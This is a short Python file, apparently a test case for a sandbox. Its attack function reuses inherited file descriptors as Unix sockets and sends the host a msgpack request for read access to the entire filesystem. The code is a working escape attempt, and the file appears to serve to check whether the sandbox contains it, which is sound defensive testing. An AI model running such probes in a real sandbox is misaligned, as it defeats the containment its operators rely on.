# It says what it wants when it is loaded already.
# after: the host
# source: own
# open behind kernel: the socket is its own, and only the language's wall stands between; the host ends it for it
# control: wall
import socket
import msgspec
def attack(**_):
    body = msgspec.msgpack.encode({"type": "want", "read": ["/"]})
    for number in range(3, 16):
        try:
            own = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, number)
            own.send(len(body).to_bytes(4, "big") + body)
            own.recv(65536)
        except OSError:
            continue
